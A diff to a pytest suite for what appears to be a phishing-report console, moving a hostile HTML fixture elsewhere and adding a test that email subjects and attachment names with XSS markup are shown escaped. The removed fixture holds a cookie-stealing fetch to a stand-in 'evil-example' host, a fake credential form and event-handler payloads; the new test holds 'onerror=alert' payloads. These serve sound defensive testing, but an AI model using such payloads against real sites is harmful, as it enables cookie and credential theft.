@@ -8,7 +8,8 @@ import re
 import pytest
 from sqlalchemy import select, update
 
-from tests.test_console_support import (
+from tests.support.console import (
+    HOSTILE_HTML,
     analyse_all,
     count_queries,
     email,
@@ -19,23 +20,6 @@ from tests.test_console_support import (
 )
 from watchword.runtime import Runtime
 from watchword.store.models import AuditEvent, Campaign, Report
-
-HOSTILE_HTML = """<html><head>
-<link rel="stylesheet" href="https://cdn.evil-example.com/x.css">
-<style>@import url(https://css.evil-example.com/i.css); body{background:url(https://bg.evil-example.com/b.png)}
-.hide{display:none} a::after{content:"https://decoy.example.org"}</style>
-<meta http-equiv="refresh" content="0;url=https://refresh.evil-example.com/">
-</head><body onload="window.__pwned='onload'">
-<script>window.__pwned='script'; fetch('https://exfil.evil-example.com/?c='+document.cookie)</script>
-<img src="https://pixel.evil-example.com/open.gif" onerror="window.__pwned='onerror'">
-<img src=x onerror=alert(1)>
-<svg><script>window.__pwned='svg'</script></svg>
-<iframe src="https://frame.evil-example.com/"></iframe>
-<a href="javascript:window.__pwned='js-link'">Verify your account</a>
-<a href="https://login.evil-example.com/o365">https://login.microsoftonline.com/</a>
-<form action="https://post.evil-example.com/"><input name=password></form>
-<p class="hide">hidden words</p><p>Your mailbox is full. Sign in to keep your mail.</p>
-</body></html>"""
 
 
 @pytest.fixture
@@ -225,7 +209,7 @@ def test_report_in_a_campaign_links_to_it_and_takes_its_verdict(rt: Runtime) -> 
     refused = client.post(
         f"/console/reports/{report_id}/verdict", data={"csrf": page_csrf(client), "verdict": "benign"}
     )
-    assert refused.status_code == 400
+    assert refused.status_code == 409  # a conflict with the campaign, not a malformed request
 
 
 def test_notes_are_added_audited_and_searchable(rt: Runtime, hostile: int) -> None:
@@ -293,3 +277,23 @@ def test_out_of_scope_and_failed_lists(rt: Runtime) -> None:
     assert "ValueError" in failed and "<script>x" not in failed
     viewer = signed_in(rt, "vic", role="viewer")
     assert viewer.get("/console/restricted").status_code == 403
+
+
+def test_hostile_markup_in_names_is_shown_literally_not_hidden(rt: Runtime) -> None:
+    """Issue 11, item 18: an attachment named '<img src=x onerror=…>.pdf' showed as '.pdf'."""
+    from email.message import EmailMessage
+
+    msg = EmailMessage()
+    msg["From"] = "Billing <billing@evil-example.com>"
+    msg["To"] = "staff@corp.example"
+    msg["Subject"] = "Invoice <b onmouseover=alert(2)>overdue</b>"
+    msg.set_content("Please see the attached invoice.")
+    msg.add_attachment(b"%PDF-1.4 not really", maintype="application", subtype="pdf")
+    msg.get_payload()[1].set_param("filename", "<img src=x onerror=alert(1)>.pdf", header="Content-Disposition")
+    report_id = report_email(rt, msg.as_bytes())
+    analyse_all(rt)
+    html = signed_in(rt).get(f"/console/reports/{report_id}").text
+    assert "&lt;img src=x onerror=alert(1)&gt;.pdf" in html
+    assert "Invoice &lt;b onmouseover=alert(2)&gt;overdue&lt;/b&gt;" in html
+    tags = _markup_outside_text(html)
+    assert "onerror" not in tags and "onmouseover" not in tags and "<img" not in tags
